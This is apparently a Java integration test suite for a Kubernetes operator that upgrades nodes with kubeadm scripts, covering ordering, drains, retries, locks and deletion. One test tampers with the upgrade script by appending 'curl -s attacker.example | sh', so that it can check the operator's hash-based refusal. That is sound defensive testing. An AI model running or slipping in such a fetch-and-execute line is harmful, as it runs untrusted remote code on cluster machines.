package dev.cks.nodeops.upgrade;

import static dev.cks.nodeops.upgrade.UpgradeBed.FROM;
import static dev.cks.nodeops.upgrade.UpgradeBed.TARGET;
import static dev.cks.nodeops.upgrade.UpgradeBed.nodeStatus;
import static dev.cks.nodeops.upgrade.UpgradeBed.phase;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import java.time.Duration;
import java.util.List;
import java.util.Map;

import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import dev.cks.nodeops.common.Conditions;
import dev.cks.nodeops.common.NodeAnnotations;
import dev.cks.nodeops.testbed.OperatorProcess;
import dev.cks.nodeops.testbed.TestBed;
import dev.cks.nodeops.testbed.KubeletUpgradeSimulation.SeenJob;
import dev.cks.nodeops.upgrade.UpgradeNodeStatus.Action;
import dev.cks.nodeops.upgrade.UpgradeNodeStatus.Phase;
import io.fabric8.kubernetes.api.model.ConfigMapBuilder;
import io.fabric8.kubernetes.api.model.LabelSelectorBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.dsl.base.PatchContext;
import io.fabric8.kubernetes.client.dsl.base.PatchType;

/**
 * NodeUpgrade with the Script executor, end to end on the real control plane with KWOK nodes: the
 * packaged operator runs as its own process; {@link KubeletUpgradeSimulation} plays the kubelet that
 * comes back at the new version when the upgrade Job succeeds. Invalid targetVersions are refused by
 * the CRD schema: see CrdValidationIT (`targetVersion: '1.33'`).
 */
class NodeUpgradeIT extends NodeUpgradeScenario {
    static final String SCRIPT_CONFIGMAP = "nu-it-kubeadm-upgrade";
    static final String SCRIPT = "#!/bin/sh\n# $1: target version, $2: apply|node\nset -eu\n"
            + "if [ \"$2\" = apply ]; then kubeadm upgrade apply \"$1\" --yes; else kubeadm upgrade node; fi\n"
            + "systemctl restart kubelet\n";
    private static final Duration UPGRADE_TIME = Duration.ofSeconds(120);

    NodeUpgradeIT() {
        super("nuit");
    }

    @Override
    protected Map<String, String> prepare(TestBed shared) {
        return installScript(shared);
    }

    /** The script's ConfigMap on the bed; returns the operator's properties that trust it. */
    static Map<String, String> installScript(TestBed shared) {
        shared.client().configMaps().inNamespace(TestBed.OPERATOR_NAMESPACE).resource(new ConfigMapBuilder()
                .withNewMetadata().withName(SCRIPT_CONFIGMAP).endMetadata().addToData("upgrade.sh", SCRIPT).build()).serverSideApply();
        return operatorProperties();
    }

    /** The script is the only one the operator may run, as the chart's upgrade.scripts would list it. */
    private static Map<String, String> operatorProperties() {
        return Map.of("cks.upgrade.script-sha256", ScriptTrust.sha256(SCRIPT));
    }

    static UpgradeExecutor script() {
        return UpgradeBed.script(SCRIPT_CONFIGMAP, "upgrade.sh");
    }

    @Test
    void aScriptChangedInItsConfigMapIsRefusedBeforeAnyNodeIsCordoned() {
        String w1 = bed.worker(FROM);
        String tampered = "nu-it-tampered";
        bed.client.configMaps().inNamespace(TestBed.OPERATOR_NAMESPACE).resource(new ConfigMapBuilder()
                .withNewMetadata().withName(tampered).endMetadata().addToData("upgrade.sh", SCRIPT + "curl -s attacker.example | sh\n").build())
                .serverSideApply();
        try {
            bed.create("nu-tampered", UpgradeBed.script(tampered, "upgrade.sh"), spec -> { });
            NodeUpgrade failed = bed.await("nu-tampered", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Failed));

            assertThat(nodeStatus(failed, w1).getError()).contains("ConfigMap " + TestBed.OPERATOR_NAMESPACE + "/" + tampered)
                    .contains("does not list").contains("Nothing was cordoned");
            assertThat(nodeStatus(failed, w1).getCordonedByUs()).as("never cordoned").isNull();
            assertThat(bed.events("nu-tampered")).extracting(io.fabric8.kubernetes.api.model.Event::getReason).doesNotContain("Cordoned", "Draining");
            assertThat(kubelets.jobsOn(List.of(w1))).as("no Job").isEmpty();
            bed.assertReleased(w1, false);
        } finally {
            bed.client.configMaps().inNamespace(TestBed.OPERATOR_NAMESPACE).withName(tampered).delete();
        }
    }

    @Test
    void upgradesTheControlPlaneWithApplyThenEachWorkerWithNodeOneAtATime() throws java.io.IOException {
        String control = bed.controlPlane(FROM);
        String w1 = bed.worker(FROM);
        String w2 = bed.worker(FROM);
        String w3 = bed.worker(FROM);

        bed.create("nu-order", script(), spec -> { });
        // The README's recipe: kubectl reads the condition as a metav1.Condition and counts it only when its
        // observedGeneration is the object's generation (kubectl's wait/condition.go).
        assertThat(testBed.tool("kubectl", "wait", "--for=condition=Succeeded", "nodeupgrade/nu-order", "--timeout=" + UPGRADE_TIME.toSeconds() + "s"))
                .contains("nodeupgrade.nodeops.cks.dev/nu-order condition met");
        NodeUpgrade done = bed.await("nu-order", Duration.ofSeconds(5), phase(NodeUpgradeStatus.Phase.Succeeded));

        List<String> planned = done.getStatus().getNodes().stream().map(UpgradeNodeStatus::getName).toList();
        assertThat(planned.get(0)).isEqualTo(control);
        assertThat(planned).containsExactlyInAnyOrder(control, w1, w2, w3);
        assertThat(bed.client.batch().v1().jobs().inNamespace(TestBed.OPERATOR_NAMESPACE).withLabel(UpgradeJob.LABEL_NODE, w1).list().getItems())
                .singleElement().satisfies(job -> assertThat(job.getMetadata().getAnnotations())
                        .containsEntry(UpgradeJob.ANNOTATION_SCRIPT_SHA256, ScriptTrust.sha256(SCRIPT)));
        assertThat(kubelets.jobsOn(bed.nodes)).as("one Job per node, in the planned order")
                .extracting(SeenJob::node, SeenJob::action)
                .containsExactly(tuple(planned.get(0), "Apply"), tuple(planned.get(1), "Node"), tuple(planned.get(2), "Node"), tuple(planned.get(3), "Node"));
        assertThat(done.getStatus().getNodes()).allSatisfy(n -> {
            assertThat(n.getPhase()).isEqualTo(Phase.Succeeded);
            assertThat(n.getFromVersion()).isEqualTo(FROM);
            assertThat(n.getVersion()).isEqualTo(TARGET);
            assertThat(n.getReadyBy()).as("%s is done with: its Ready deadline leaves the status (docs/upgrade.md, \"What status keeps\")", n.getName())
                    .isNull();
            assertThat(n.getCordonedByUs()).isTrue();
            assertThat(n.getStartedAt()).isNotNull();
            assertThat(n.getCompletedAt()).isNotNull();
        });
        assertThat(bed.events(done.getMetadata().getName())).as("each node waited for Ready")
                .filteredOn(e -> "WaitingReady".equals(e.getReason())).hasSize(4);
        assertThat(testBed.nodeEventsOf(w1)).as("kubectl describe node %s: what the upgrade did to it, and which upgrade", w1)
                .allSatisfy(e -> assertThat(e.getMessage()).startsWith("NodeUpgrade nu-order: "))
                .extracting(io.fabric8.kubernetes.api.model.Event::getReason)
                .containsExactly("Cordoned", "Draining", "NodeDrained", "Upgrading", "WaitingReady", "NodeUpgraded", "Uncordoned");
        assertThat(done.getStatus().getProgress()).isEqualTo("4/4");
        assertThat(done.getStatus().getCurrentNode()).as("no node is worked on once the upgrade has finished").isNull();
        assertThat(done.getStatus().getHeldSince()).isNull();
        assertThat(Conditions.isTrue(done.getStatus().getConditions(), Conditions.SUCCEEDED)).isTrue();
        assertThat(done.getStatus().getConditions()).as("no CloudStack Secret on this bed: no record to compare, no condition about it")
                .noneMatch(c -> c.getType().equals(Conditions.CLOUDSTACK_RECORD_CURRENT));
        bed.nodes.forEach(n -> bed.assertReleased(n, false));
        bed.nodes.forEach(n -> assertThat(UpgradePlan.isReadyAt(bed.node(n), TARGET)).isTrue());
        List<String> metrics = operator.httpGet("/q/metrics").lines().toList();
        assertThat(metrics).anyMatch(l -> l.startsWith("cks_operations_total{") && l.contains("kind=\"NodeUpgrade\"") && l.contains("outcome=\"Succeeded\""));
        for (String step : List.of("drain", "upgrade", "ready")) {
            assertThat(metrics).as("step %s timed", step).anyMatch(l -> l.startsWith("cks_node_step_seconds_count{") && l.contains("step=\"" + step + "\""));
        }
        for (Duration bound : dev.cks.nodeops.common.DurationHistogram.NODE_STEP.bounds()) {
            assertThat(metrics).as("the drain's histogram bucket le=%s on /q/metrics", bound).anyMatch(l -> l.startsWith("cks_node_step_seconds_bucket{")
                    && l.contains("step=\"drain\"") && l.contains("le=\"" + bound.toMillis() / 1000.0 + "\""));
        }
        assertThat(metrics).anyMatch(l -> l.startsWith("cks_operation_phase{") && l.contains("name=\"nu-order\"") && l.contains("phase=\"Succeeded\"")
                && l.endsWith(" 1.0"));
    }

    /**
     * Shape: the KWOK bed, one control-plane node (kubeadm's {@code node-role.kubernetes.io/control-plane} label, as CKS
     * nodes have it) and two workers, all at the old version. Actor: a person upgrading the workers only with
     * spec.selector's matchExpressions (#35); matchLabels keeps the NodeUpgrade to this test's nodes of the shared bed.
     * The control-plane node is not in the plan, gets no Job, and is never cordoned, locked or even named in an event.
     */
    @Test
    void aSelectorWithDoesNotExistOnTheControlPlaneLabelUpgradesExactlyTheWorkers() {
        String control = bed.controlPlane(FROM);
        String w1 = bed.worker(FROM);
        String w2 = bed.worker(FROM);

        bed.create("nu-workers", script(), spec -> spec.setSelector(new LabelSelectorBuilder().withMatchLabels(Map.of(UpgradeBed.GROUP_LABEL, bed.group))
                .addNewMatchExpression().withKey(UpgradePlan.CONTROL_PLANE_LABEL).withOperator("DoesNotExist").endMatchExpression().build()));
        NodeUpgrade done = bed.await("nu-workers", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Succeeded));

        assertThat(done.getStatus().getNodes()).extracting(UpgradeNodeStatus::getName).containsExactlyInAnyOrder(w1, w2);
        assertThat(kubelets.jobsOn(bed.nodes)).extracting(SeenJob::node, SeenJob::action)
                .containsExactlyInAnyOrder(tuple(w1, "Node"), tuple(w2, "Node"));
        assertThat(UpgradePlan.isReadyAt(bed.node(w1), TARGET) && UpgradePlan.isReadyAt(bed.node(w2), TARGET)).isTrue();
        assertThat(bed.node(control).getStatus().getNodeInfo().getKubeletVersion()).isEqualTo(FROM);
        bed.assertReleased(control, false);
        assertThat(testBed.nodeEventsOf(control)).as("nothing was done to the control-plane node").isEmpty();
        assertThat(bed.events("nu-workers")).as("no event names the control-plane node").noneMatch(e -> e.getMessage().contains(control))
                .as("the new field: no deprecation").noneMatch(e -> e.getReason().equals(NodeSelection.DEPRECATED_NODE_SELECTOR));
    }

    @Test
    void skipsNodesReadyAtTheTargetWithoutAJobAndLeavesAPreCordonedNodeCordoned() {
        String control = bed.controlPlane(TARGET);
        String vendorBuild = bed.worker(TARGET + "+vendor.1");
        String longerPatch = bed.worker(TestBed.kubernetesVersion(0, 90));
        String preCordoned = bed.worker(FROM);
        bed.cordonByHand(preCordoned);

        bed.create("nu-skip", script(), spec -> { });
        NodeUpgrade done = bed.await("nu-skip", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Succeeded));

        assertThat(nodeStatus(done, control).getAction()).isEqualTo(Action.Skip);
        assertThat(nodeStatus(done, control).getPhase()).isEqualTo(Phase.Skipped);
        assertThat(nodeStatus(done, vendorBuild).getPhase()).as("build metadata does not count").isEqualTo(Phase.Skipped);
        assertThat(nodeStatus(done, longerPatch).getAction()).as("a longer patch of the target minor is not the target").isEqualTo(Action.Node);
        assertThat(kubelets.jobsOn(bed.nodes)).as("no Job for skipped nodes, and no apply: the control plane is at the target")
                .extracting(SeenJob::node, SeenJob::action).containsExactlyInAnyOrder(tuple(longerPatch, "Node"), tuple(preCordoned, "Node"));
        assertThat(nodeStatus(done, preCordoned).getPhase()).isEqualTo(Phase.Succeeded);
        assertThat(nodeStatus(done, preCordoned).getCordonedByUs()).isFalse();
        bed.assertReleased(preCordoned, true);
        bed.assertReleased(longerPatch, false);
        assertThat(done.getStatus().getProgress()).isEqualTo("4/4");
    }

    @Test
    void aDrainBlockedByAPdbFailsThatNodeAndARetryResumesThereWithoutRunningApplyAgain() {
        KubernetesClient client = bed.client;
        String control = bed.controlPlane(FROM);
        List<String> workers = bed.twoWorkersInPlanOrder(FROM);
        String w1 = workers.get(0);
        String w2 = workers.get(1);
        String namespace = testBed.newNamespace("nuit-pdb");
        bed.podsBlockedByABudget(w2, namespace);
        try {
            bed.create("nu-pdb", script(), spec -> spec.getDrain().setTimeoutSeconds(3));
            NodeUpgrade failed = bed.await("nu-pdb", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Failed));

            assertThat(failed.getStatus().getNodes()).extracting(UpgradeNodeStatus::getName, UpgradeNodeStatus::getPhase)
                    .containsExactly(tuple(control, Phase.Succeeded), tuple(w1, Phase.Succeeded), tuple(w2, Phase.Failed));
            assertThat(nodeStatus(failed, w2).getError()).contains(w2).contains("pdb " + namespace + "/web-pdb");
            assertThat(Conditions.find(failed.getStatus().getConditions(), Conditions.FAILED)).get()
                    .satisfies(c -> assertThat(c.getMessage()).contains("failed at node " + w2).contains(NodeAnnotations.RETRY));
            bed.assertReleased(w2, false);
            assertThat(bed.events("nu-pdb")).as("a Warning event names the node")
                    .anySatisfy(e -> {
                        assertThat(e.getType()).isEqualTo("Warning");
                        assertThat(e.getReason()).isEqualTo("Failed");
                        assertThat(e.getMessage()).contains(w2);
                    });
            assertThat(kubelets.jobsOn(bed.nodes)).extracting(SeenJob::node, SeenJob::action)
                    .containsExactly(tuple(control, "Apply"), tuple(w1, "Node"));

            client.policy().v1().podDisruptionBudget().inNamespace(namespace).withName("web-pdb").delete();
            client.resources(NodeUpgrade.class).withName("nu-pdb").patch(PatchContext.of(PatchType.JSON_MERGE),
                    "{\"metadata\":{\"annotations\":{\"" + NodeAnnotations.RETRY + "\":\"1\"}}}");
            NodeUpgrade resumed = bed.await("nu-pdb", UPGRADE_TIME, u -> "1".equals(u.getStatus().getRetryToken())
                    && u.getStatus().getPhase() == NodeUpgradeStatus.Phase.Succeeded);

            assertThat(resumed.getStatus().getNodes()).extracting(UpgradeNodeStatus::getName, UpgradeNodeStatus::getPhase)
                    .containsExactly(tuple(control, Phase.Skipped), tuple(w1, Phase.Skipped), tuple(w2, Phase.Succeeded));
            assertThat(kubelets.jobsOn(bed.nodes)).as("resumed at %s; apply ran once", w2).extracting(SeenJob::node, SeenJob::action)
                    .containsExactly(tuple(control, "Apply"), tuple(w1, "Node"), tuple(w2, "Node"));
            bed.nodes.forEach(n -> bed.assertReleased(n, false));
        } finally {
            client.namespaces().withName(namespace).delete();
        }
    }

    @Test
    void aDrainHeldByAPdbShowsThePdbAndItsNumbersWhileItBlocksAndCarriesOnWhenItIsGone() {
        String worker = bed.worker(FROM);
        String namespace = testBed.newNamespace("nuit-held");
        bed.podsBlockedByABudget(worker, namespace);
        try {
            bed.create("nu-held", script(), spec -> spec.getDrain().setTimeoutSeconds(120));
            String numbers = "pdb " + namespace + "/web-pdb: needs 2 healthy, has 2, 0 disruptions allowed";

            NodeUpgrade blocked = bed.await("nu-held", UPGRADE_TIME, u -> u.getStatus() != null && u.getStatus().getMessage() != null
                    && u.getStatus().getMessage().contains("blocked for"));

            assertThat(Conditions.find(blocked.getStatus().getConditions(), Conditions.PROGRESSING)).get()
                    .satisfies(c -> assertThat(c.getMessage()).contains("Draining node " + worker).contains(numbers));
            Awaitility.await("a DrainBlocked Warning event").atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(bed.events("nu-held"))
                    .anySatisfy(e -> {
                        assertThat(e.getType()).isEqualTo("Warning");
                        assertThat(e.getReason()).isEqualTo("DrainBlocked");
                        assertThat(e.getMessage()).contains(worker).contains(numbers);
                    }));
            assertThat(operator.httpGet("/q/metrics").lines()).anyMatch(l -> l.startsWith("cks_drain_blocked{") && l.contains("name=\"nu-held\"")
                    && l.contains("node=\"" + worker + "\"") && l.endsWith(" 1.0"));

            bed.client.policy().v1().podDisruptionBudget().inNamespace(namespace).withName("web-pdb").delete();
            bed.await("nu-held", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Succeeded));
            assertThat(bed.events("nu-held")).filteredOn(e -> "DrainBlocked".equals(e.getReason())).as("announced once").hasSize(1);
        } catch (java.io.IOException e) {
            throw new AssertionError("the operator's /q/metrics could not be read", e);
        } finally {
            bed.client.namespaces().withName(namespace).delete();
        }
    }

    @Test
    void anExecutorJobThatFailsMarksTheNodeFailedWithTheJobsReasonAndUncordonsIt() {
        String w1 = bed.worker(FROM);
        try (PodsHeldOffNode held = new PodsHeldOffNode(bed.client, w1, TestBed.OPERATOR_NAMESPACE)) {
            bed.create("nu-jobfail", script(), spec -> spec.getExecutor().setJobTimeoutSeconds(3));
            NodeUpgrade failed = bed.await("nu-jobfail", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Failed));

            UpgradeNodeStatus node = nodeStatus(failed, w1);
            assertThat(node.getPhase()).isEqualTo(Phase.Failed);
            // KWOK pods write no logs (and this one never started): the Job controller's reason is what there is to report.
            assertThat(node.getError()).contains("The upgrade Job " + TestBed.OPERATOR_NAMESPACE + "/" + node.getJobName() + " on node " + w1 + " failed")
                    .contains("DeadlineExceeded").contains("No log of its pod could be read.");
            assertThat(Conditions.find(failed.getStatus().getConditions(), Conditions.FAILED)).get()
                    .satisfies(c -> assertThat(c.getMessage()).contains(w1));
            bed.assertReleased(w1, false);
        }
    }

    @Test
    void anUpgradeJobThatCannotMakeItsPodIsNamedInTheWaitingConditionAndTheNodeGoesOnOnceItCan() {
        String w1 = bed.worker(FROM);
        try (PodsHeldOffNode held = new PodsHeldOffNode(bed.client, w1, TestBed.OPERATOR_NAMESPACE)) {
            bed.create("nu-nopod", script(), spec -> { });
            NodeUpgrade waiting = bed.await("nu-nopod", Duration.ofSeconds(90), u -> Conditions.find(u.getStatus().getConditions(), Conditions.WAITING)
                    .filter(c -> UpgradeJobStep.UPGRADE_POD_NOT_RUNNING.equals(c.getReason())).isPresent());

            UpgradeNodeStatus node = nodeStatus(waiting, w1);
            assertThat(Conditions.find(waiting.getStatus().getConditions(), Conditions.WAITING)).get().satisfies(c -> assertThat(c.getMessage())
                    .contains("The upgrade Job " + TestBed.OPERATOR_NAMESPACE + "/" + node.getJobName() + " of node " + w1)
                    .contains("its pod could not be created").contains("the test holds pods off node " + w1));
            assertThat(waiting.getStatus().getPhase()).as("a wait with a node held").isEqualTo(NodeUpgradeStatus.Phase.Running);
            assertThat(node.getPhase()).isEqualTo(Phase.Upgrading);
            assertThat(Boolean.TRUE.equals(bed.node(w1).getSpec().getUnschedulable())).isTrue();
        }
        // The Job controller tries again (backing off up to a minute): KWOK runs the pod and the Job completes.
        NodeUpgrade done = bed.await("nu-nopod", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Succeeded));
        assertThat(Conditions.find(done.getStatus().getConditions(), Conditions.WAITING)).isEmpty();
        assertThat(nodeStatus(done, w1).getPhase()).isEqualTo(Phase.Succeeded);
        bed.assertReleased(w1, false);
    }

    @Test
    void aNodeThatWentNotReadyAfterItsUpgradeIsUpgradedAgainOnRetry() {
        List<String> workers = bed.twoWorkersInPlanOrder(FROM);
        String w1 = workers.get(0);
        String w2 = workers.get(1);
        try (PodsHeldOffNode held = new PodsHeldOffNode(bed.client, w2, TestBed.OPERATOR_NAMESPACE)) {
            bed.create("nu-notready", script(), spec -> spec.getExecutor().setJobTimeoutSeconds(3));
            NodeUpgrade failed = bed.await("nu-notready", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Failed));
            assertThat(nodeStatus(failed, w1).getPhase()).isEqualTo(Phase.Succeeded);
            assertThat(nodeStatus(failed, w2).getPhase()).isEqualTo(Phase.Failed);
        }
        // KWOK re-initializes a node whose Ready conditions are all not True within a second, but leaves it
        // alone while any Ready condition is True; the first Ready condition is the one readers go by (the
        // operator's NodeReadiness, kubectl): so a Ready=False ahead of KWOK's Ready=True is a NotReady that stays.
        bed.client.nodes().withName(w1).subresource("status").patch(PatchContext.of(PatchType.JSON_MERGE),
                "{\"status\":{\"conditions\":[{\"type\":\"Ready\",\"status\":\"False\",\"reason\":\"KubeletNotReady\",\"message\":\"node went down after its upgrade\","
                        + "\"lastHeartbeatTime\":\"2026-01-01T00:00:00Z\",\"lastTransitionTime\":\"2026-01-01T00:00:00Z\"},"
                        + "{\"type\":\"Ready\",\"status\":\"True\",\"reason\":\"KubeletReady\",\"message\":\"kwok\","
                        + "\"lastHeartbeatTime\":\"2026-01-01T00:00:00Z\",\"lastTransitionTime\":\"2026-01-01T00:00:00Z\"}]}}");
        Awaitility.await("node " + w1 + " stays NotReady").during(Duration.ofSeconds(2)).atMost(Duration.ofSeconds(10))
                .until(() -> dev.cks.nodeops.nodes.NodeReadiness.state(bed.node(w1)) == dev.cks.nodeops.nodes.NodeReadiness.State.NOT_READY);

        bed.client.resources(NodeUpgrade.class).withName("nu-notready").patch(PatchContext.of(PatchType.JSON_MERGE),
                "{\"metadata\":{\"annotations\":{\"" + NodeAnnotations.RETRY + "\":\"1\"}}}");
        NodeUpgrade done = bed.await("nu-notready", UPGRADE_TIME, u -> "1".equals(u.getStatus().getRetryToken())
                && u.getStatus().getPhase() == NodeUpgradeStatus.Phase.Succeeded);

        assertThat(nodeStatus(done, w1).getAction()).as("at the target but NotReady: not skipped").isEqualTo(Action.Node);
        assertThat(nodeStatus(done, w1).getPhase()).isEqualTo(Phase.Succeeded);
        assertThat(kubelets.jobsOn(List.of(w1))).as("a second upgrade Job for %s", w1).hasSize(2)
                .extracting(SeenJob::name).doesNotHaveDuplicates();
        assertThat(UpgradePlan.isReadyAt(bed.node(w1), TARGET)).isTrue();
        bed.nodes.forEach(n -> bed.assertReleased(n, false));
    }

    @Test
    void anUpgradeReachingANodeLockedByAScaleDownWaitsUntilTheLockIsReleased() {
        String w1 = bed.worker(FROM);
        bed.client.nodes().withName(w1).patch(PatchContext.of(PatchType.JSON_MERGE),
                "{\"metadata\":{\"annotations\":{\"" + NodeAnnotations.LOCK + "\":\"ScaleDown/remove-two\"}}}");

        bed.create("nu-locked", script(), spec -> { });
        NodeUpgrade waiting = bed.await("nu-locked", Duration.ofSeconds(60), phase(NodeUpgradeStatus.Phase.Waiting));

        assertThat(Conditions.find(waiting.getStatus().getConditions(), Conditions.WAITING)).get().satisfies(c -> {
            assertThat(c.getStatus()).isEqualTo("True");
            assertThat(c.getReason()).isEqualTo("NodeLocked");
            assertThat(c.getMessage()).contains("Node " + w1 + " is locked by ScaleDown/remove-two");
        });
        assertThat(Boolean.TRUE.equals(bed.node(w1).getSpec().getUnschedulable())).as("nothing touched while waiting").isFalse();
        assertThat(kubelets.jobsOn(bed.nodes)).isEmpty();

        bed.client.nodes().withName(w1).patch(PatchContext.of(PatchType.JSON_MERGE),
                "{\"metadata\":{\"annotations\":{\"" + NodeAnnotations.LOCK + "\":null}}}");
        NodeUpgrade done = bed.await("nu-locked", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Succeeded));

        assertThat(nodeStatus(done, w1).getPhase()).isEqualTo(Phase.Succeeded);
        bed.assertReleased(w1, false);
    }

    @Test
    void deletingAnUpgradeWhileItDrainsUncordonsAndUnlocksTheNode() {
        String w1 = bed.worker(FROM);
        String namespace = testBed.newNamespace("nuit-del");
        bed.podsBlockedByABudget(w1, namespace);
        try {
            bed.create("nu-delete-draining", script(), spec -> spec.getDrain().setTimeoutSeconds(300));
            NodeUpgrade draining = bed.await("nu-delete-draining", Duration.ofSeconds(60), u -> !u.getStatus().getNodes().isEmpty()
                    && nodeStatus(u, w1).getPhase() == Phase.Draining
                    && Conditions.find(u.getStatus().getConditions(), Conditions.PROGRESSING).map(c -> c.getMessage()).orElse("")
                            .startsWith("Draining node " + w1 + " (attempt 1/1)"));
            String owner = "NodeUpgrade/nu-delete-draining/" + draining.getMetadata().getUid();
            assertThat(bed.node(w1).getMetadata().getAnnotations()).as("the owner named with its uid")
                    .containsEntry(NodeAnnotations.LOCK, owner).containsEntry(NodeAnnotations.CORDONED_BY, owner);
            assertThat(nodeStatus(draining, w1).getDrain().getBlockedBy()).contains("web-pdb");

            bed.client.resources(NodeUpgrade.class).withName("nu-delete-draining").delete();
            Awaitility.await("NodeUpgrade deleted").atMost(Duration.ofSeconds(60)).until(() -> bed.get("nu-delete-draining") == null);

            bed.assertReleased(w1, false);
        } finally {
            bed.client.namespaces().withName(namespace).delete();
        }
    }

    @Test
    void deletingAnUpgradeWhileItsJobRunsReleasesTheNodeButLeavesItCordoned() {
        String w1 = bed.worker(FROM);
        try (PodsHeldOffNode held = new PodsHeldOffNode(bed.client, w1, TestBed.OPERATOR_NAMESPACE)) {
            bed.create("nu-delete-upgrading", script(), spec -> { });
            String jobName = nodeStatus(bed.await("nu-delete-upgrading", Duration.ofSeconds(60), u -> !u.getStatus().getNodes().isEmpty()
                    && nodeStatus(u, w1).getPhase() == Phase.Upgrading && nodeStatus(u, w1).getJobName() != null), w1).getJobName();

            bed.client.resources(NodeUpgrade.class).withName("nu-delete-upgrading").delete();
            Awaitility.await("NodeUpgrade deleted").atMost(Duration.ofSeconds(60)).until(() -> bed.get("nu-delete-upgrading") == null);

            io.fabric8.kubernetes.api.model.batch.v1.Job job = bed.client.batch().v1().jobs().inNamespace(TestBed.OPERATOR_NAMESPACE).withName(jobName).get();
            assertThat(job).as("the running Job is left to finish, not garbage-collected with its NodeUpgrade").isNotNull();
            assertThat(job.getMetadata().getOwnerReferences()).as("orphaned").isNullOrEmpty();

            assertThat(bed.node(w1).getMetadata().getAnnotations()).doesNotContainKey(NodeAnnotations.LOCK);
            assertThat(bed.node(w1).getSpec().getUnschedulable()).as("kubeadm may be restarting its kubelet: stays cordoned").isTrue();
            assertThat(bed.events("nu-delete-upgrading")).anySatisfy(e -> {
                assertThat(e.getReason()).isEqualTo("LeftCordoned");
                assertThat(e.getMessage()).contains("kubectl uncordon " + w1);
            });
        }
    }

    /**
     * Shape: one KWOK worker, Script executor, its upgrade Job's pod running (KWOK keeps it so). Actor: a person
     * running kubectl delete job after the pod started. Before, the operator made a second Job of the same name
     * and reported the node upgraded.
     */
    @Test
    void aJobDeletedAfterItsPodStartedIsNotMadeAgainAndTheNodeFails() {
        String w1 = bed.worker(FROM);
        try (PodsKeptRunning running = new PodsKeptRunning(bed.client, w1, TestBed.OPERATOR_NAMESPACE)) {
            bed.create("nu-job-deleted", script(), spec -> { });
            String jobName = jobOnceItsPodRuns("nu-job-deleted", w1);

            bed.client.batch().v1().jobs().inNamespace(TestBed.OPERATOR_NAMESPACE).withName(jobName).delete();
            NodeUpgrade failed = bed.await("nu-job-deleted", Duration.ofSeconds(60), phase(NodeUpgradeStatus.Phase.Failed));

            assertThat(kubelets.jobsOn(List.of(w1))).as("exactly one Job ever made for the node").extracting(SeenJob::name).containsExactly(jobName);
            assertThat(nodeStatus(failed, w1).getError()).contains("was deleted; kubeadm may have run").contains(NodeAnnotations.RETRY);
            assertThat(bed.events("nu-job-deleted")).anySatisfy(e -> {
                assertThat(e.getReason()).isEqualTo(UpgradeJobStep.JOB_DELETED);
                assertThat(e.getType()).isEqualTo("Warning");
            });
        }
    }

    /**
     * Shape: one KWOK worker, Script executor, no pod of its upgrade Job admitted. Actor: a person running
     * kubectl delete job. The operator had seen that no pod started: it makes the Job again and says so.
     */
    @Test
    void aJobDeletedBeforeAnyPodOfItWasAdmittedIsMadeAgainAndTheEventSaysSo() {
        String w1 = bed.worker(FROM);
        String jobName;
        try (PodsHeldOffNode held = new PodsHeldOffNode(bed.client, w1, TestBed.OPERATOR_NAMESPACE)) {
            bed.create("nu-job-deleted-early", script(), spec -> { });
            // The operator has looked at the Job and seen no pod of it started.
            jobName = nodeStatus(bed.await("nu-job-deleted-early", Duration.ofSeconds(90), u -> Conditions.find(u.getStatus().getConditions(),
                    Conditions.WAITING).filter(c -> UpgradeJobStep.UPGRADE_POD_NOT_RUNNING.equals(c.getReason())).isPresent()), w1).getJobName();

            bed.client.batch().v1().jobs().inNamespace(TestBed.OPERATOR_NAMESPACE).withName(jobName).delete();
            Awaitility.await("the Job's deletion reported").atMost(Duration.ofSeconds(30)).untilAsserted(() -> assertThat(bed.events("nu-job-deleted-early"))
                    .anySatisfy(e -> {
                        assertThat(e.getReason()).isEqualTo(UpgradeJobStep.JOB_DELETED);
                        assertThat(e.getType()).isEqualTo("Warning");
                        assertThat(e.getMessage()).contains(jobName).contains("no pod of it had started");
                    }));
        }
        NodeUpgrade done = bed.await("nu-job-deleted-early", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Succeeded));
        assertThat(kubelets.jobsOn(List.of(w1))).as("made again under its name").extracting(SeenJob::name).containsExactly(jobName, jobName);
        assertThat(nodeStatus(done, w1).getPhase()).isEqualTo(Phase.Succeeded);
    }

    /**
     * Shape: one KWOK worker, Script executor, its upgrade Job's pod running. Actor: a GitOps tool pruning the
     * NodeUpgrade (--cascade=foreground, Argo CD's default), a person deleting it (background) or orphaning.
     * Before, a foreground delete had the garbage collector delete the Job, killing kubeadm.
     */
    @ParameterizedTest
    @org.junit.jupiter.params.provider.EnumSource(io.fabric8.kubernetes.api.model.DeletionPropagation.class)
    void deletingTheUpgradeInAnyCascadeLeavesItsRunningJobRunning(io.fabric8.kubernetes.api.model.DeletionPropagation cascade) {
        String w1 = bed.worker(FROM);
        String name = "nu-prune-" + cascade.name().toLowerCase();
        try (PodsKeptRunning running = new PodsKeptRunning(bed.client, w1, TestBed.OPERATOR_NAMESPACE)) {
            bed.create(name, script(), spec -> { });
            String jobName = jobOnceItsPodRuns(name, w1);
            var jobs = bed.client.batch().v1().jobs().inNamespace(TestBed.OPERATOR_NAMESPACE);
            String uid = jobs.withName(jobName).get().getMetadata().getUid();

            bed.client.resources(NodeUpgrade.class).withName(name).withPropagationPolicy(cascade).delete();
            Awaitility.await("NodeUpgrade deleted").atMost(Duration.ofSeconds(60)).until(() -> bed.get(name) == null);
            Awaitility.await().pollDelay(Duration.ofSeconds(30)).atMost(Duration.ofSeconds(31)).until(() -> true);

            io.fabric8.kubernetes.api.model.batch.v1.Job job = jobs.withName(jobName).get();
            assertThat(job).as("the running Job is left to finish").isNotNull();
            assertThat(job.getMetadata().getUid()).as("the same Job").isEqualTo(uid);
